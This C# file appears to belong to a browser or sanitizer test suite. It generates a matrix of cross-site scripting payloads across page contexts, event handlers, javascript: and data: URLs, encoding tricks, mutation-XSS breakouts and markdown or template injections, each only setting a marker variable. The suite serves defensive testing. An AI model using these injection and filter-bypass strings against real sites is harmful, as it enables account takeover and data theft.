using System.Text;

namespace Network.Browser.Scripts;

/// <summary>
/// Hostile texts, made of tables and not collected: places in a page × what runs there × how it may be written. The order
/// mixes the places, so that any run of some dozens holds all of them.
/// </summary>
internal static class Payloads
{
    public const string Address = "address";
    private const string Call = "CALL";

    /// <summary>Ways to say the same call; none needs a quote or a space.</summary>
    private static readonly string[] Calls = ["__xss=N", "top.__xss=N", "self[/__xss/.source]=N", "eval(/__xss=N/.source)", @"\u005f_xss=N", "window.__xss=N", "0||(__xss=N)", "Reflect.set(self,/__xss/.source,N)"];

    /// <summary>Where a text may stand, and what ends it there.</summary>
    private static readonly (string Name, string Page, string End)[] Places =
    [
        ("text", "<p>{0}</p>", ""),
        ("double quotes", "<input value=\"{0}\">", "\">"),
        ("single quotes", "<input value='{0}'>", "'>"),
        ("no quotes", "<input value={0}>", "x>"),
        ("comment", "<!-- {0} -->", "-->"),
        ("comment, badly closed", "<!-- {0} -->", "--!>"),
        ("textarea", "<textarea>{0}</textarea>", "</textarea>"),
        ("title", "<title>{0}</title>", "</title>"),
        ("style", "<style>{0}</style>", "</style>"),
        ("script", "<script>'{0}'</script>", "</script>"),
        ("template", "<template>{0}</template>", "</template>"),
        ("option", "<select><option>{0}</option></select>", "</option></select>"),
        ("row", "<table><tr>{0}</tr></table>", "</tr></table>"),
        ("noscript", "<noscript>{0}</noscript>", "</noscript>"),
        ("svg", "<svg><text>{0}</text></svg>", "</text></svg>"),
        ("math", "<math><mi>{0}</mi></math>", "</mi></math>"),
        ("frame", "<iframe>{0}</iframe>", "</iframe>"),
    ];

    private static readonly string[] Elements =
    [
        "<script>CALL</script>", "<img src=x onerror=CALL>", "<svg onload=CALL>", "<svg><script>CALL</script></svg>", "<svg><animate onbegin=CALL attributeName=x dur=1s>",
        "<math><mtext><img src=x onerror=CALL></mtext></math>", "<details open ontoggle=CALL>", "<video><source onerror=CALL></video>", "<audio src=x onerror=CALL></audio>",
        "<input autofocus onfocus=CALL>", "<a href=javascript:CALL>x</a>", "<iframe src=javascript:parent.CALL></iframe>", "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
        "<form><button formaction=javascript:CALL>x</button></form>", "<object data=x onerror=CALL></object>", "<style onload=CALL></style>", "<link rel=stylesheet href=x onerror=CALL>",
        "<marquee onstart=CALL>x</marquee>", "<b tabindex=0 onblur=CALL>x</b>", "<x onpointerover=CALL>x</x>", "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=CALL&gt;\">",
    ];

    private static readonly string[] Handlers = ["onfocus", "onclick", "onmouseover", "onpointerenter", "onblur", "onkeydown", "oninput", "onwheel"];

    /// <summary>Other ways to write an element; for what lives in no browser of today there may be a decoder of ours.</summary>
    private static readonly Func<string, string>[] Writings =
    [
        text => string.Concat(text.Select((sign, at) => at < 8 && at % 2 == 0 ? char.ToUpperInvariant(sign) : sign)),
        text => text.Replace(" ", "/", StringComparison.Ordinal),
        text => text.Replace(" ", "\n\t", StringComparison.Ordinal),
        text => text.Replace(" ", "\f", StringComparison.Ordinal),
        text => text.Replace("=", " = ", StringComparison.Ordinal),
        text => text.Replace(">", "\u2028>", StringComparison.Ordinal),
        text => text.Replace("<", "<<", StringComparison.Ordinal),
        text => text.Replace("__xss", "&#95;&#x5f;xss", StringComparison.Ordinal),
        text => text.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal),
        text => text.Replace("<", "&amp;lt;", StringComparison.Ordinal),
        text => text.Replace("<", "&#60", StringComparison.Ordinal),
        text => Uri.EscapeDataString(text),
        text => text.Replace("<", @"\u003c", StringComparison.Ordinal).Replace(">", @"\x3e", StringComparison.Ordinal),
        text => text.Replace("<", "＜", StringComparison.Ordinal).Replace(">", "＞", StringComparison.Ordinal),
        text => text.Replace("<", "\u200b<\u200d", StringComparison.Ordinal),
        text => $"`{text}`${{CALL}}{{{{constructor.constructor('CALL')()}}}}",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "java\nscript:CALL", "\u0001javascript:CALL", " javascript:CALL", "javascript&colon;CALL", "&#106;avascript:CALL", "javascript\t:CALL",
        "javascript://x.example/%0aCALL", "javascript:/**/CALL", "javascript:void(CALL)", "javascript:%5f%5fxss=N", "data:text/html,<script>CALL</script>", "data:text/html;base64,BASE64", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
        "vbscript:CALL", "view-source:javascript:CALL", "feed:javascript:CALL", "http://x.example/\" onfocus=CALL x=\"", "http://x.example/' onfocus=CALL x='", "https:javascript:CALL", "//x.example/<svg onload=CALL>", "/\\x.example/javascript:CALL",
    ];

    private static readonly string[] InScript = ["';CALL//", "\";CALL//", "`;CALL//", "${CALL}", @"\';CALL//", "'-(CALL)-'", "\u2028CALL//", "*/CALL/*", "]]>;CALL//", "</script ><script>CALL</script>"];

    private static readonly string[] InStyle = ["x:expression(CALL)", "background:url(javascript:CALL)", "-moz-binding:url(//x.example/#CALL)", "}</style ><img src=x onerror=CALL>", "@import 'javascript:CALL';"];

    private static readonly string[] Marked =
    [
        "[x](javascript:CALL)", "![x](javascript:CALL)", "<javascript:CALL>", "[x]\n\n[x]: javascript:CALL", "[x](java&#10;script:CALL)", "[x](data:text/html,<script>CALL</script>)", "[x](<javascript:CALL> \"x\")",
        "[x](https://x.example/\"onfocus=CALL)", "http://x.example/\"onfocus=CALL//", "`<img src=x onerror=CALL>`", "{{CALL}}", "<%= CALL %>", "#{CALL}", "[[${CALL}]]",
    ];

    public static IReadOnlyList<Payload> All { get; } = [.. Made().OrderBy(one => one.Number % 7).ThenBy(one => one.Number)];

    /// <summary>A share of the texts as one, with a word before it that search finds.</summary>
    public static string Hand(int hand, int of) => "Zkouška " + string.Join(' ', All.Where((one, at) => at % of == hand && !one.IsAddress).Select(one => one.Text));

    private static IEnumerable<Payload> Made() => Drafts().Select((draft, at) => Of(at + 1, draft.Place, draft.Text, draft.Raw));

    private static IEnumerable<(string Place, string Text, string Raw)> Drafts() =>
    [
        .. Places.SelectMany((place, row) => Elements.Where((_, column) => row == 0 || (row + column) % 2 == 0).Select(element => (place.Name, place.End + element, place.Page))),
        .. from quote in new[] { "\"", "'", " " }
           from handler in Handlers
           select ("handler", $"x{quote} {handler}=CALL autofocus tabindex=0 x={quote}", $"<input value={quote.Trim()}{{0}}{quote.Trim()}>"),
        .. from element in new[] { Elements[1], Elements[2], Elements[6] }
           from writing in Writings
           select ("writing", writing(element), "<p>{0}</p>"),
        .. Addresses.Select(text => (Address, text, "<a href=\"{0}\">x</a>")),
        .. InScript.Select((text, at) => ("script string", text, at switch { 1 => "<script>x=\"{0}\"</script>", 2 or 3 => "<script>x=`{0}`</script>", 6 => "<script>//{0}</script>", 7 => "<script>/*{0}*/</script>", _ => "<script>x='{0}'</script>" })),
        .. InStyle.Select(text => ("style rule", text, "<style>a{{{0}}}</style>")),
        .. Marked.Select(text => ("marks", text, "<p>{0}</p>")),
    ];

    private static Payload Of(int number, string place, string text, string raw)
    {
        var call = Calls[number % Calls.Length].Replace("N", $"{number}", StringComparison.Ordinal);
        var hidden = Convert.ToBase64String(Encoding.UTF8.GetBytes($"<script>__xss={number}</script>"));
        var said = text.Replace(Call, call, StringComparison.Ordinal).Replace("BASE64", hidden, StringComparison.Ordinal).Replace("xss=N", $"xss={number}", StringComparison.Ordinal);
        return new Payload(number, place, said, string.Format(System.Globalization.CultureInfo.InvariantCulture, raw, said));
    }
}
